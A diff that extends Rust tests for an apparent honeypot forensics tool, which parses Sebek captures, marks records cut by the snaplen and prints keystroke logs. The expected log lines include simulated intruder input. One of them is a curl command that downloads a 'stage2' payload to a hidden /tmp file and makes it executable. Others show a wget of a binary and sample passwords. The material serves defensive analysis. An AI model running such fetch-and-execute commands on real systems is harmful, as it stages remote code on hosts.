@@ -520,6 +520,60 @@ fn records_cut_by_the_snaplen_keep_their_headers_and_are_marked_truncated() {
     );
     assert!(!cut_reads.is_empty());
     assert_eq!(cut_reads, whole_reads);
+    // The mirror marks each row whose record the snaplen cut (here: all of
+    // them), and none of the whole capture's.
+    let marked = |data: &str| {
+        rows(
+            &mirror(data),
+            "SELECT tbl, count(*) FROM x_sebek_truncated GROUP BY tbl ORDER BY tbl",
+        )
+    };
+    assert!(marked(&whole).is_empty());
+    let all_rows = rows(
+        &mirror(&data),
+        "SELECT * FROM (SELECT 'sys_open', count(*) n FROM sys_open UNION ALL \
+         SELECT 'sys_read', count(*) FROM sys_read UNION ALL \
+         SELECT 'sys_socket', count(*) FROM sys_socket UNION ALL \
+         SELECT 'sys_write', count(*) FROM sys_write) WHERE n > 0 ORDER BY 1",
+    );
+    assert_eq!(marked(&data), all_rows);
+    let procs = ok(&["processes", "--data", &data]);
+    assert!(
+        procs.contains("of its records cut by the capture's snaplen")
+            && procs.contains("[truncated]"),
+        "{procs}"
+    );
+    assert!(!ok(&["processes", "--data", &whole]).contains("truncated"));
+    // 115 bytes keep the first 17 bytes of data: keystrokes are whole,
+    // wget's read of 23 bytes is cut after its first CR LF: its line is
+    // marked.
+    let cut = dir.path().join("snap115.pcap");
+    with_snaplen(&fixture("sebek.pcap"), &cut, 115);
+    let (_k, keys) = new_node(77);
+    ok(&["ingest", "--data", &keys, cut.to_str().unwrap()]);
+    let lines = ok(&["keystrokes", "--data", &keys]);
+    assert!(
+        lines.contains("COM:wget ]#HTTP/1.0 200 OK [truncated]\n")
+            && lines.contains("COM:sshd/bash ]#wget x\n"),
+        "{lines}"
+    );
+    let json: serde_json::Value =
+        serde_json::from_str(&ok(&["keystrokes", "--data", &keys, "--json"])).unwrap();
+    assert_eq!(json[1]["truncated"], true, "{json}");
+    assert!(json[0].get("truncated").is_none(), "{json}");
+    // The byte view marks each cut read (bash's, on the 96-byte capture).
+    let raw = ok(&["keystrokes", "--data", &data, "--raw", "--process", "3"]);
+    assert!(raw.contains("[truncated]"), "{raw}");
+    let procs: Vec<serde_json::Value> =
+        serde_json::from_str(&ok(&["processes", "--data", &keys, "--json"])).unwrap();
+    let cut_counts: Vec<(u64, u64)> = procs
+        .iter()
+        .filter(|p| p["truncated"] != 0)
+        .map(|p| (p["pid"].as_u64().unwrap(), p["truncated"].as_u64().unwrap()))
+        .collect();
+    // bash's open of /root/.bash_history (19 bytes), wget's request (19)
+    // and its reply.
+    assert_eq!(cut_counts, [(1002, 1), (1003, 2)]);
     // Cut inside the command name: the header is gone, so is the record.
     let cut = dir.path().join("snap80.pcap");
     with_snaplen(&fixture("sebek.pcap"), &cut, 80);
@@ -533,18 +587,22 @@ fn records_cut_by_the_snaplen_keep_their_headers_and_are_marked_truncated() {
 
 /// `keystrokes` prints what sbk_ks_log.pl prints. The expected lines were
 /// derived by hand from the generator's scripts (src/sebek/generate.rs): the
-/// script keeps reads of at most 100 bytes on any fd, groups them per (host,
-/// pid, inode, fd) until a read holding `\r` or `\n`, prints the honeypot
-/// clock (capture clock minus 3607 s) of that read, `[BS]` for 0x7f and
-/// drops the other control bytes. lumpy differs only where it keeps less
-/// than the script saw: the zero-length read that marks a fork is not kept,
-/// so its uid and command name (`sshd`, uid 0 before bash's first line) do
-/// not join the first line after a fork (docs/UI.md, "Keystrokes").
+/// script keeps reads of at most 100 bytes on any fd (the zero-length read
+/// that marks a fork, sent as the child with the parent's command and uid
+/// 0, included), groups them per (host, pid, inode, fd) until a read holding
+/// `\r` or `\n`, prints the honeypot clock (capture clock minus 3607 s) of
+/// that read, the uids and commands seen on the line (lumpy: in the order
+/// first seen; the script: in Perl hash order), `[BS]` for 0x7f and drops
+/// the other control bytes. A pasted read of 85 bytes is whole, beyond the
+/// 59 bytes of hflow2's `sys_read.data`, and each line names the commands
+/// its own reads carried (before and after an exec in one process).
 #[test]
 fn keystrokes_print_what_sbk_ks_log_prints() {
     let (d, data) = new_node(78);
     let typing = d.path().join("typing.pcap");
     ok(&["gen-sebek", "--script", "typing", typing.to_str().unwrap()]);
+    let paste = d.path().join("paste.pcap");
+    ok(&["gen-sebek", "--script", "paste", paste.to_str().unwrap()]);
     let f = fixture("sebek.pcap");
     ok(&[
         "ingest",
@@ -552,23 +610,30 @@ fn keystrokes_print_what_sbk_ks_log_prints() {
         &data,
         f.to_str().unwrap(),
         typing.to_str().unwrap(),
+        paste.to_str().unwrap(),
     ]);
     let h = "Host:10.0.0.5";
     let sbk = [
-        format!("[2011-03-13 06:06:34 {h} UID:0 PID:1002 FD:0 INO:100 COM:bash ]#wget x"),
+        format!("[2011-03-13 06:06:34 {h} UID:0 PID:1002 FD:0 INO:100 COM:sshd/bash ]#wget x"),
         // wget's reply is a read of 24 bytes on its socket: the script keeps it.
         format!(
             "[2011-03-13 06:06:34 {h} UID:0 PID:1003 FD:4 INO:104 COM:wget ]#HTTP/1.0 200 OKELF"
         ),
         format!(
-            "[2011-03-13 06:23:15 {h} UID:1000 PID:2002 FD:0 INO:100 COM:bash ]#unmae[BS][BS][BS]ame -a"
+            "[2011-03-13 06:23:15 {h} UID:0/1000 PID:2002 FD:0 INO:100 COM:sshd/bash ]#unmae[BS][BS][BS]ame -a"
         ),
         format!("[2011-03-13 06:23:16 {h} UID:1000 PID:2002 FD:0 INO:100 COM:bash ]#passwd"),
-        format!("[2011-03-13 06:23:17 {h} UID:0 PID:2003 FD:0 INO:100 COM:passwd ]#Hunter2!"),
+        format!("[2011-03-13 06:23:17 {h} UID:0 PID:2003 FD:0 INO:100 COM:bash/passwd ]#Hunter2!"),
         format!("[2011-03-13 06:23:18 {h} UID:0 PID:2003 FD:0 INO:100 COM:passwd ]#Hunter2!"),
         format!("[2011-03-13 06:23:18 {h} UID:1000 PID:2002 FD:0 INO:100 COM:bash ]#su -"),
-        format!("[2011-03-13 06:23:19 {h} UID:0 PID:2004 FD:0 INO:100 COM:su ]#r00tpw"),
-        format!("[2011-03-13 06:23:20 {h} UID:0 PID:2005 FD:0 INO:100 COM:bash ]#ls[U-ARROW]"),
+        format!("[2011-03-13 06:23:19 {h} UID:0 PID:2004 FD:0 INO:100 COM:bash/su ]#r00tpw"),
+        format!("[2011-03-13 06:23:20 {h} UID:0 PID:2005 FD:0 INO:100 COM:su/bash ]#ls[U-ARROW]"),
+        format!(
+            "[2011-03-13 06:39:53 {h} UID:0 PID:3002 FD:0 INO:100 COM:sshd/bash ]#curl -s http://203.0.113.66/stage2/payload-x86_64.bin -o /tmp/.x && chmod +x /tmp/.x"
+        ),
+        // After the exec the same pid's reads carry python: each line names
+        // the commands of its own reads.
+        format!("[2011-03-13 06:39:53 {h} UID:0 PID:3002 FD:0 INO:100 COM:python ]#print(1)"),
     ];
     let lines = |args: &[&str]| -> Vec<String> {
         let mut all = vec!["keystrokes", "--data", &data];
@@ -580,11 +645,13 @@ fn keystrokes_print_what_sbk_ks_log_prints() {
     assert_eq!(
         cooked.first().map(String::as_str),
         Some(
-            format!("[2011-03-13 06:23:15 {h} UID:1000 PID:2002 FD:0 INO:100 COM:bash ]#uname -a")
-                .as_str()
+            format!(
+                "[2011-03-13 06:23:15 {h} UID:0/1000 PID:2002 FD:0 INO:100 COM:sshd/bash ]#uname -a"
+            )
+            .as_str()
         )
     );
-    assert_eq!(cooked.len(), 7, "{cooked:?}");
+    assert_eq!(cooked.len(), 9, "{cooked:?}");
     assert!(lines(&["--host", "10.0.0.6"]).is_empty());
     // Filters: the process of wget, then one sensor that has nothing.
     assert_eq!(lines(&["--process", "4"]), sbk[1..2]);
